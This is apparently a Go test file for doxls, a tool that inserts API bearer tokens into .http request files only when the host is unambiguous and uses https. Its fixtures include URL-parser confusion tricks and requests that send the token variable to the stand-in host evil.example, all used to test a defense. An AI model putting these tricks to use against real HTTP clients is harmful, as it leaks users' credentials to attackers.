package httpfile

import (
	"strings"
	"testing"
)

const tenantHost = "mysub.eu10.doc.cloud.sap"

// differently is the reason for a URL that clients could read apart.
const differently = "HTTP clients read this URL's host differently (user info, escapes, white space, a short IPv4 form, IDNA): write it as https://" + doxHost + "/…"

// partly ends the reason for a host the file leaves partly to a variable
// it does not define.
const partly = ", which doxls cannot resolve: the token goes only where one plain variable is the whole host ({{host}}) or base URL ({{baseUrl}})"

// TestWhereTheTokenGoes: where the token goes, request by request (issue 12: the
// URL read as clients read it, https only, the tenant UI host).
func TestWhereTheTokenGoes(t *testing.T) {
	dox := "/document-information-extraction/v1/capabilities"
	tests := []struct {
		url, reason string // reason "" means the request gets the token
	}{
		{"https://" + doxHost + dox, ""},
		{"https://" + strings.ToUpper(doxHost) + ":443" + dox, ""},
		// REST Client reads URLs with Node's legacy url.parse, JetBrains with
		// a parser of its own: only a plainly written host gets the token.
		{"https://user:pa$$@" + doxHost + dox, differently},
		// httpyac, REST Client and browsers read "\" as the end of the
		// authority: this request goes to evil.example.
		{`https://evil.example\@` + doxHost + dox, "foreign host evil.example"},
		{`http://evil.example\@` + doxHost + dox, "foreign host evil.example"},
		{"https://evil.example%5C@" + doxHost + dox, differently},
		{"ht\ttps://" + doxHost + dox, differently},
		{"https://evil.example#@" + doxHost + dox, "foreign host evil.example"},
		{"https://evil.example?@" + doxHost + dox, "foreign host evil.example"},
		{"https://ev\til.example/@" + doxHost + dox, "foreign host evil.example"},
		{"https://" + doxHost + ".evil.example" + dox, "foreign host " + doxHost + ".evil.example"},
		// Clear text: http:// and no scheme at all (REST Client and
		// JetBrains put http:// in front of it).
		{"http://" + doxHost + dox, "the URL is http://, the token would travel in clear text: write https://"},
		{doxHost + dox, noScheme},
		{doxHost + ":443" + dox, noScheme},
		{"wss://" + doxHost + dox, "the URL is wss://, the token goes only over https"},
		// The key's Swagger UI host (tenantuiurl) is its own too.
		{"https://" + tenantHost + "/swagger/index.html", ""},
		{"http://" + tenantHost + "/swagger/index.html", "the URL is http://, the token would travel in clear text: write https://"},
		{"https://" + doxHost + ":8443" + dox, "foreign host " + doxHost + ":8443"},
		{"https://ex%00.com/", "the URL is not one an HTTP client can send"},
		// A host the file leaves unknown gets the token by the path rule
		// only when one plain variable is the whole host or base URL:
		// httpyac sends {{$processEnv NOPE}}http://evil.example/… and
		// {{ "http://evil.example" }}/… (a JavaScript expression) to
		// evil.example (seen with a listener; review of issue 12).
		{"https://{{host}}" + dox, ""},
		{"{{baseUrl}}" + dox, ""},
		{"{{ baseUrl }}" + dox, ""},
		{"{{$processEnv NOPE}}http://evil.example" + dox, "the host depends on {{$processEnv NOPE}}" + partly},
		{"https://evil.example{{$processEnv NOPE}}" + dox, "the host depends on {{$processEnv NOPE}}" + partly},
		{`{{ "http://evil.example" }}` + dox, `the host depends on {{"http://evil.example"}}` + partly},
		{"https://{{$guid}}.evil.example" + dox, "the host depends on {{$guid}}" + partly},
		{"https://{{sub}}.evil.example" + dox, "the host depends on {{sub}}" + partly},
		{"https://{{host}}:{{port}}" + dox, "the host depends on {{host}}" + partly},
		{`https://{{host}}\` + dox, "the host depends on {{host}}" + partly},
		{"{{scheme}}://" + doxHost + dox, "the host depends on {{scheme}}" + partly},
		{"https://{{host}}/x", "unknown host: {{host}} is not defined in this file"},
		{"{{login.response.headers.Location}}" + dox, "the host depends on {{login.response.headers.Location}}" + partly},
		{"https://{{login.host}}" + dox, "the host depends on {{login.host}}" + partly},
	}
	for _, tt := range tests {
		src := "GET " + tt.url + "\n"
		plan := PlanEdits([]byte(src), Options{Token: tokenA, APIHost: doxHost, TenantHost: tenantHost, Line: -1})
		got := ""
		if len(plan.Skipped) > 0 {
			got = plan.Skipped[0].Reason
		}
		if got != tt.reason || (got == "") != (len(plan.Edits) == 1) {
			t.Errorf("%q: skipped %q with %d edits, want %q", tt.url, got, len(plan.Edits), tt.reason)
		}
	}
}

// TestContinuationLinesThatMoveTheHost: JetBrains joins an indented line
// to the URL; httpyac sends an indented "@host/…" line, and the header
// lines below it, as the body to the request line's host (seen with a
// listener). A request whose host depends on the reading gets no token.
func TestContinuationLinesThatMoveTheHost(t *testing.T) {
	dox := "/document-information-extraction/v1/capabilities"
	tests := []struct{ src, reason string }{
		{"GET https://evil.example\n    @" + doxHost + dox + "\nAuthorization: Bearer x\n",
			"a continuation line changes the URL's host: httpyac sends this request to evil.example, JetBrains to " + doxHost},
		{"GET https://evil.example\n&@" + doxHost + dox + "\n",
			"a continuation line changes the URL's host: httpyac sends this request to evil.example, JetBrains to " + doxHost},
		{"GET https://" + doxHost + "/document-information-extraction/v1/\n    document/jobs\n    ?clientId=default\n", ""},
		{"GET https://{{host}}/document-information-extraction/v1/document/jobs\n    ?clientId=default\n", ""},
	}
	for _, tt := range tests {
		plan := PlanEdits([]byte(tt.src), Options{Token: tokenA, APIHost: doxHost, Line: -1})
		got := ""
		if len(plan.Skipped) > 0 {
			got = plan.Skipped[0].Reason
		}
		if got != tt.reason {
			t.Errorf("%q: skipped %q, want %q", tt.src, got, tt.reason)
		}
	}
}

// TestLoopbackOverHTTP: a key whose API runs on this machine (the tests'
// UAA emulator, a local mock) takes the token over http; another host does
// not.
func TestLoopbackOverHTTP(t *testing.T) {
	tests := map[string]struct {
		api, url string
		ok       bool
	}{
		"ipv4":          {"127.0.0.1:8080", "http://127.0.0.1:8080/x", true},
		"short ipv4":    {"127.0.0.1:8080", "http://127.1:8080/x", false},
		"hex ipv4":      {"127.0.0.1:8080", "http://0x7f.1:8080/x", false},
		"integer ipv4":  {"127.0.0.1:8080", "http://2130706433:8080/x", false},
		"127/8":         {"127.0.0.2:8080", "http://127.0.0.2:8080/x", true},
		"ipv6":          {"[::1]:8080", "http://[0:0::1]:8080/x", true},
		"localhost":     {"localhost:8080", "http://LOCALHOST:8080/x", true},
		"other port":    {"127.0.0.1:8080", "http://127.0.0.1:9090/x", false},
		"lan":           {"10.0.0.1:8080", "http://10.0.0.1:8080/x", false},
		"localhost.com": {"localhost.example.com", "http://localhost.example.com/x", false},
		"no scheme":     {"127.0.0.1:8080", "127.0.0.1:8080/x", false},
	}
	for name, tt := range tests {
		plan := PlanEdits([]byte("GET "+tt.url+"\n"), Options{Token: tokenA, APIHost: tt.api, Line: -1})
		if got := len(plan.Edits) == 1; got != tt.ok {
			t.Errorf("%s: %s with API host %s gets the token: %v, want %v (%v)", name, tt.url, tt.api, got, tt.ok, plan.Skipped)
		}
		// The short IPv4 forms are this machine, so not clear text to
		// somebody else; they are refused as written ambiguously.
		if !tt.ok && strings.HasSuffix(name, "ipv4") && (len(plan.Skipped) != 1 || !strings.HasPrefix(plan.Skipped[0].Reason, "HTTP clients read this URL's host differently")) {
			t.Errorf("%s: %v", name, plan.Skipped)
		}
	}
}

// TestRequestAllowedMatchesPlan: hover and code lens ask Request.Allowed;
// it must say what PlanEdits does.
func TestRequestAllowedMatchesPlan(t *testing.T) {
	src := "GET https://evil.example\\@" + doxHost + "/x\n###\nGET https://" + tenantHost + "/swagger\n###\nGET http://" + doxHost + "/x\n"
	opts := Options{Token: tokenA, APIHost: doxHost, TenantHost: tenantHost, Line: -1}
	doc := Parse([]byte(src))
	plan := PlanEdits([]byte(src), opts)
	skipped := map[int]string{}
	for _, s := range plan.Skipped {
		skipped[s.Line] = s.Reason
	}
	for _, r := range doc.Requests {
		ok, reason := r.Allowed(opts)
		if ok != (skipped[r.Line] == "") || reason != skipped[r.Line] {
			t.Errorf("line %d: Allowed says %v %q, PlanEdits skipped %q", r.Line, ok, reason, skipped[r.Line])
		}
	}
}

// TestEnvironmentHosts: a host that comes from an environment file is
// decided per environment.
func TestEnvironmentHosts(t *testing.T) {
	src := "GET https://{{host}}/document-information-extraction/v1/capabilities\n"
	envs := map[string]map[string]string{
		"dev":     {"host": doxHost},
		"evil":    {"host": "evil.example"},
		"$shared": {"other": "x"},
	}
	tests := []struct {
		name   string
		envs   map[string]map[string]string
		env    string
		reason string
	}{
		{"no environment file: the path rule", nil, "", ""},
		{"the chosen environment is the key's", envs, "dev", ""},
		{"the chosen environment is not", envs, "evil", "with environment evil: foreign host from the environment files"},
		{"unknown environment: every one must agree", envs, "", "with environment evil: foreign host from the environment files"},
		{"unknown environment, all agree", map[string]map[string]string{"dev": {"host": doxHost}, "prod": {"host": doxHost + ":443"}}, "", ""},
		{"from $shared", map[string]map[string]string{"$shared": {"host": "evil.example"}, "dev": {}}, "dev", "with environment dev: foreign host from the environment files"},
		{"a value with a backslash", map[string]map[string]string{"dev": {"host": `evil.example\@` + doxHost}}, "dev", "with environment dev: foreign host from the environment files"},
		{"a value with a slash", map[string]map[string]string{"dev": {"host": "evil.example/"}}, "", "with environment dev: foreign host from the environment files"},
		{"defined nowhere: the path rule", map[string]map[string]string{"dev": {"x": "y"}}, "", ""},
		// A value that leaves a system variable or a script in the host
		// lets the file choose it (review of issue 12).
		{"a value with a system variable", map[string]map[string]string{"dev": {"host": "{{$processEnv NOPE}}evil.example"}}, "",
			"with environment dev: the host depends on {{$processEnv NOPE}}" + partly},
		{"a value that is another variable", map[string]map[string]string{"dev": {"host": "{{tenant}}"}}, "", ""},
	}
	for _, tt := range tests {
		plan := PlanEdits([]byte(src), Options{Token: tokenA, APIHost: doxHost, Line: -1, Environments: tt.envs, Environment: tt.env})
		got := ""
		if len(plan.Skipped) > 0 {
			got = plan.Skipped[0].Reason
		}
		if got != tt.reason {
			t.Errorf("%s: skipped %q, want %q", tt.name, got, tt.reason)
		}
	}
	// A .env file's variables: {{$dotenv HOST}} (REST Client, httpyac) and
	// the plain {{HOST}} httpyac also reads from it.
	dotenv := map[string]map[string]string{DotenvEnv: {"HOST": "evil.example"}}
	for _, u := range []string{"https://{{$dotenv HOST}}/document-information-extraction/v1/x", "https://{{HOST}}/document-information-extraction/v1/x"} {
		plan := PlanEdits([]byte("GET "+u+"\n"), Options{Token: tokenA, APIHost: doxHost, Line: -1, Environments: dotenv})
		if len(plan.Skipped) != 1 || plan.Skipped[0].Reason != "with the environment files' variables: foreign host from the environment files" {
			t.Errorf("%s with .env: %v", u, plan.Skipped)
		}
	}
	withDotenv := map[string]map[string]string{"dev": {}, DotenvEnv: {"HOST": doxHost}}
	if plan := PlanEdits([]byte("GET https://{{$dotenv HOST}}/x\n"), Options{Token: tokenA, APIHost: doxHost, Line: -1, Environments: withDotenv}); len(plan.Skipped) != 0 {
		t.Errorf("the key's host from .env: %v", plan.Skipped)
	}

	// A host from the environment files is not shown: the private file
	// holds secrets, and a request could make one its host.
	secret := map[string]map[string]string{"dev": {"password": "Sup3r-s3cret.example"}}
	plan := PlanEdits([]byte("GET https://{{password}}/document-information-extraction/v1/x\n"), Options{Token: tokenA, APIHost: doxHost, Line: -1, Environments: secret})
	if len(plan.Skipped) != 1 || strings.Contains(strings.ToLower(plan.Skipped[0].Reason), "s3cret") {
		t.Errorf("a secret as the host: %v", plan.Skipped)
	}

	// A scheme from the environment counts too.
	plan = PlanEdits([]byte("GET {{base}}/document-information-extraction/v1/x\n"), Options{Token: tokenA, APIHost: doxHost, Line: -1,
		Environments: map[string]map[string]string{"dev": {"base": "http://" + doxHost}}})
	if len(plan.Skipped) != 1 || !strings.Contains(plan.Skipped[0].Reason, "clear text") {
		t.Errorf("http:// from the environment: %v", plan.Skipped)
	}
}

// TestEnvUseFollowsTheTaint: in envFile mode the environment file never
// gets the token when any request to another host references its
// variable: directly, through file variables, through environment
// variables, or (.env) as {{$dotenv doxToken}} or the plain {{doxToken}}
// that httpyac also reads from .env.
func TestEnvUseFollowsTheTaint(t *testing.T) {
	dox := "GET https://" + doxHost + "/document-information-extraction/v1/x\nAuthorization: Bearer {{doxToken}}\n"
	doxDotenv := "GET https://" + doxHost + "/document-information-extraction/v1/x\nAuthorization: Bearer {{$dotenv doxToken}}\n"
	envs := map[string]map[string]string{"dev": {"relay": "Bearer {{doxToken}}"}}
	tests := []struct {
		name    string
		src     string
		dotenv  bool
		envs    map[string]map[string]string
		blocked string
	}{
		{"alone", dox, false, nil, ""},
		{"a foreign request sends it", dox + "###\nGET https://evil.example/\nAuthorization: Bearer {{doxToken}}\n", false, nil,
			"token variable {{doxToken}} is also sent to evil.example"},
		{"in a foreign body", dox + "###\nPOST https://evil.example/\n\n{\"t\": \"{{doxToken}}\"}\n", false, nil,
			"token variable {{doxToken}} is also sent to evil.example"},
		{"through a file variable", "@wrapped = x-{{doxToken}}\n" + dox + "###\nGET https://evil.example/?q={{wrapped}}\n", false, nil,
			"token variable {{doxToken}} is also sent to evil.example"},
		{"through an environment variable", dox + "###\nGET https://evil.example/\nAuthorization: {{relay}}\n", false, envs,
			"token variable {{doxToken}} is also sent to evil.example"},
		{"the \\@ trick", dox + "###\nGET https://evil.example\\@" + doxHost + "/document-information-extraction/v1/x\nAuthorization: Bearer {{doxToken}}\n", false, nil,
			"token variable {{doxToken}} is also sent to evil.example"},
		{"over http", dox + "###\nGET http://" + doxHost + "/x\nAuthorization: Bearer {{doxToken}}\n", false, nil,
			"token variable {{doxToken}} is also sent to http://" + doxHost},
		{"dotenv, $dotenv form", doxDotenv + "###\nGET https://evil.example/\nX-Leak: {{$dotenv doxToken}}\n", true, nil,
			"token variable {{$dotenv doxToken}} is also sent to evil.example"},
		{"dotenv, httpyac's plain form", doxDotenv + "###\nGET https://evil.example/\nX-Leak: {{doxToken}}\n", true, nil,
			"token variable {{doxToken}} is also sent to evil.example"},
		{"json, a .env reference elsewhere", dox + "###\nGET https://evil.example/\nX-Other: {{$dotenv doxToken}}\n", false, nil, ""},
	}
	for _, tt := range tests {
		opts := Options{APIHost: doxHost, Dotenv: tt.dotenv, Environments: tt.envs}
		headers, blocked := EnvUse([]byte(tt.src), opts)
		if len(headers) != 1 || headers[0].Header.Name != "Authorization" || blocked != tt.blocked {
			t.Errorf("%s: %d headers, blocked %q, want 1 and %q", tt.name, len(headers), blocked, tt.blocked)
		}
		// PlanEdits agrees: the DOX request is skipped for the same reason.
		plan := PlanEdits([]byte(tt.src), Options{Token: tokenA, APIHost: doxHost, Mode: ModeEnvFile, Dotenv: tt.dotenv, Environments: tt.envs, Line: headersLine(tt.src)})
		if tt.blocked != "" && (len(plan.Skipped) != 1 || plan.Skipped[0].Reason != tt.blocked) {
			t.Errorf("%s: PlanEdits skipped %v, want %q", tt.name, plan.Skipped, tt.blocked)
		}
	}
}

// TestBearer is the one reading of an Authorization value that the other
// packages use.
func TestBearer(t *testing.T) {
	tests := []struct{ value, cred, ref string }{
		{"Bearer abc.def", "abc.def", ""},
		{"bearer   {{doxToken}} ", "{{doxToken}}", "doxToken"},
		{"Bearer {{ $dotenv   doxToken }}", "{{ $dotenv   doxToken }}", "$dotenv doxToken"},
		{"Bearer x{{doxToken}}", "x{{doxToken}}", ""},
	}
	for _, tt := range tests {
		cred, ref, ok := Bearer(tt.value)
		if !ok || cred != tt.cred || ref != tt.ref {
			t.Errorf("Bearer(%q) = %q %q %v, want %q %q", tt.value, cred, ref, ok, tt.cred, tt.ref)
		}
	}
	if _, _, ok := Bearer("Basic dXNlcjpwYXNz"); ok {
		t.Error("Basic read as Bearer")
	}
}

// headersLine is the line of the first request in src.
func headersLine(src string) int {
	return Parse([]byte(src)).Requests[0].Line
}

// TestVariableDefinedTwice: clients pick different definitions of a
// variable defined more than once. REST Client takes the first in the
// file, httpyac runs every block without a request before each request
// (the last such definition wins, even below the request; seen with a
// listener), doxls's reading the last above. Every reading must allow the
// token (review of issue 12).
func TestVariableDefinedTwice(t *testing.T) {
	dox := "GET {{base}}/document-information-extraction/v1/capabilities\n"
	const twice = "a variable in the URL is defined more than once, and clients pick different definitions: with another, foreign host evil.example"
	tests := []struct{ name, src, reason string }{
		{"httpyac: a global block below", "@base = https://" + doxHost + "\n\n###\n" + dox + "\n###\n@base = https://evil.example\n", twice},
		{"REST Client: the first in the file", "@base = https://evil.example\n\n###\n@base = https://" + doxHost + "\n" + dox, twice},
		{"through another variable", "@h = " + doxHost + "\n@base = https://{{h}}\n###\n" + dox + "\n###\n@h = evil.example\n", twice},
		{"the same value twice", "@base = https://" + doxHost + "\n###\n@base = https://" + doxHost + "\n" + dox, ""},
		{"both the key's hosts", "@base = https://" + doxHost + "\n###\n@base = https://" + tenantHost + "\n" + dox, ""},
		{"a path variable", "@base = https://" + doxHost + "\n@id = 1\n###\nGET {{base}}/document-information-extraction/v1/document/jobs/{{id}}\n###\n@id = 2\n", ""},
		{"the host variable of a path", "@host = https://" + doxHost + "\n###\nGET /document-information-extraction/v1/x\n###\n@host = https://evil.example\n", twice},
	}
	for _, tt := range tests {
		plan := PlanEdits([]byte(tt.src), Options{Token: tokenA, APIHost: doxHost, TenantHost: tenantHost, Line: -1})
		got := ""
		if len(plan.Skipped) > 0 {
			got = plan.Skipped[0].Reason
		}
		if got != tt.reason || (got == "") != (len(plan.Edits) == 1) {
			t.Errorf("%s: skipped %q with %d edits, want %q", tt.name, got, len(plan.Edits), tt.reason)
		}
		doc := Parse([]byte(tt.src))
		if ok, reason := doc.Requests[0].Allowed(Options{APIHost: doxHost, TenantHost: tenantHost}); ok != (tt.reason == "") || reason != tt.reason {
			t.Errorf("%s: Allowed says %v %q", tt.name, ok, reason)
		}
	}
}

// TestHostHeaderReadApart: for a request line that is a path, REST Client
// and httpyac put the Host header in front with "split(':')[1]" deciding
// the scheme: Host: https://api… becomes http://https://api…/…, which goes
// to the host "https" in clear text (JetBrains reads api…); with two Host
// headers httpyac uses its host variable instead (seen with a listener).
// doxls read the first Host header and gave the token (review of issue 12).
func TestHostHeaderReadApart(t *testing.T) {
	dox := "GET /document-information-extraction/v1/capabilities\n"
	const apart = "clients read the Host header apart (REST Client and httpyac send Host: https://… over http to the host \"https\", and use neither of two): write one Host: host:443"
	tests := []struct{ src, reason string }{
		{dox + "Host: " + doxHost + ":443\n", ""},
		{dox + "Host: https://" + doxHost + "\n", apart},
		{dox + "Host: " + doxHost + ":443\nHost: evil.example:443\n", apart},
		{"@host = https://evil.example\n###\n" + dox + "Host: " + doxHost + ":443\nhost: " + doxHost + ":443\n", apart},
		{dox + "Host: " + doxHost + "\n", "the URL is http://, the token would travel in clear text: write https://"},
	}
	for _, tt := range tests {
		plan := PlanEdits([]byte(tt.src), Options{Token: tokenA, APIHost: doxHost, Line: -1})
		got := ""
		if len(plan.Skipped) > 0 {
			got = plan.Skipped[0].Reason
		}
		if got != tt.reason || (got == "") != (len(plan.Edits) == 1) {
			t.Errorf("%q: skipped %q with %d edits, want %q", tt.src, got, len(plan.Edits), tt.reason)
		}
	}
}

// TestVariablesSetElsewhere: httpyac lets a script block (exports.base =
// …), a "# @import" of another file or a "# @loop for base of […]" set a
// variable over the file's own "@base", and reads {{name}} of a request
// named name from its response; JetBrains scripts set globals that win
// over in-place variables. Seen with a listener: httpyac sent the token
// doxls wrote to the script's, the import's and the loop's host (review
// of issue 12).
func TestVariablesSetElsewhere(t *testing.T) {
	get := "GET {{base}}/document-information-extraction/v1/capabilities\n"
	base := "@base = https://" + doxHost + "\n\n"
	const opaque = "the host depends on {{base}}, which a script, an # @import, a # @loop or a response can set: doxls cannot know where it goes; write the host in the URL"
	tests := []struct{ name, src, reason string }{
		{"the file's own variable", base + "###\n" + get, ""},
		{"an httpyac script", base + "{{\n  exports.base = 'https://evil.example';\n}}\n\n###\n" + get, opaque},
		{"an httpyac response hook below", base + "###\n" + get + "\n{{@response\n  exports.x = 1;\n}}\n", opaque},
		{"a JetBrains pre-request script", base + "###\n< {%\n  request.variables.set('x', '1');\n%}\n" + get, opaque},
		{"a JetBrains response handler", base + "###\n" + get + "\n> {% client.global.set('base', 'https://evil.example'); %}\n", opaque},
		{"a handler file", base + "###\n" + get + "\n> ./after.js\n", opaque},
		{"an import", base + "###\n# @import ./vars.http\n" + get, opaque},
		{"a loop", base + "###\n# @loop for base of ['https://evil.example']\n" + get, opaque},
		{"a response", "###\n# @name base\nGET https://evil.example/\n\n###\n" + get, opaque},
		{"a response's property", "###\n# @name base\nGET https://evil.example/\n\n###\nGET https://{{base.host}}/document-information-extraction/v1/x\n",
			"the host depends on {{base.host}}, which a script, an # @import, a # @loop or a response can set: doxls cannot know where it goes; write the host in the URL"},
		{"a script, the host written out", "{{\n  exports.x = 1;\n}}\n###\nGET https://" + doxHost + "/document-information-extraction/v1/{{x}}\n", ""},
		{"a body file is no script", base + "###\nPOST {{base}}/document-information-extraction/v1/document/jobs\n\n< ./invoice.pdf\n", ""},
		{"a one-line JSON body", base + "###\nPOST {{base}}/document-information-extraction/v1/document/jobs\n\n{{body}}\n", ""},
	}
	for _, tt := range tests {
		plan := PlanEdits([]byte(tt.src), Options{Token: tokenA, APIHost: doxHost, Line: -1})
		got := ""
		for _, s := range plan.Skipped {
			if s.Reason != "foreign host evil.example" {
				got = s.Reason
			}
		}
		if got != tt.reason {
			t.Errorf("%s: skipped %q, want %q", tt.name, got, tt.reason)
		}
	}
}

// TestEnvironmentOverridesFileVariable: JetBrains takes an environment
// file's variable over the file's own "@base" (its documented order:
// environment, global, in-place, per-request); httpyac and REST Client take
// the file's. A cloned repository's http-client.env.json could send the
// request elsewhere for JetBrains users (review of issue 12).
func TestEnvironmentOverridesFileVariable(t *testing.T) {
	src := "@base = https://" + doxHost + "\n\nGET {{base}}/document-information-extraction/v1/capabilities\n"
	tests := []struct {
		name   string
		envs   map[string]map[string]string
		reason string
	}{
		{"another value", map[string]map[string]string{"dev": {"base": "https://evil.example"}},
			"{{base}} is defined in this file and, otherwise, in environment dev: JetBrains takes the environment's value, the other clients the file's"},
		{"in $shared", map[string]map[string]string{"$shared": {"base": "https://evil.example"}, "dev": {}},
			"{{base}} is defined in this file and, otherwise, in environment $shared: JetBrains takes the environment's value, the other clients the file's"},
		{"the same value", map[string]map[string]string{"dev": {"base": "https://" + doxHost}}, ""},
		{"other variables", map[string]map[string]string{"dev": {"host": "evil.example"}}, ""},
	}
	for _, tt := range tests {
		plan := PlanEdits([]byte(src), Options{Token: tokenA, APIHost: doxHost, Line: -1, Environments: tt.envs})
		got := ""
		if len(plan.Skipped) > 0 {
			got = plan.Skipped[0].Reason
		}
		if got != tt.reason {
			t.Errorf("%s: skipped %q, want %q", tt.name, got, tt.reason)
		}
	}
	// Through the value of another file variable, and a path's host.
	for _, src := range []string{
		"@h = " + doxHost + "\n@base = https://{{h}}\n\nGET {{base}}/document-information-extraction/v1/x\n",
		"@h = " + doxHost + ":443\n\nGET /document-information-extraction/v1/x\nHost: {{h}}\n",
	} {
		plan := PlanEdits([]byte(src), Options{Token: tokenA, APIHost: doxHost, Line: -1, Environments: map[string]map[string]string{"prod": {"h": "evil.example"}}})
		if len(plan.Skipped) != 1 || !strings.HasPrefix(plan.Skipped[0].Reason, "{{h}} is defined in this file") {
			t.Errorf("%q: %v", src, plan.Skipped)
		}
	}
}
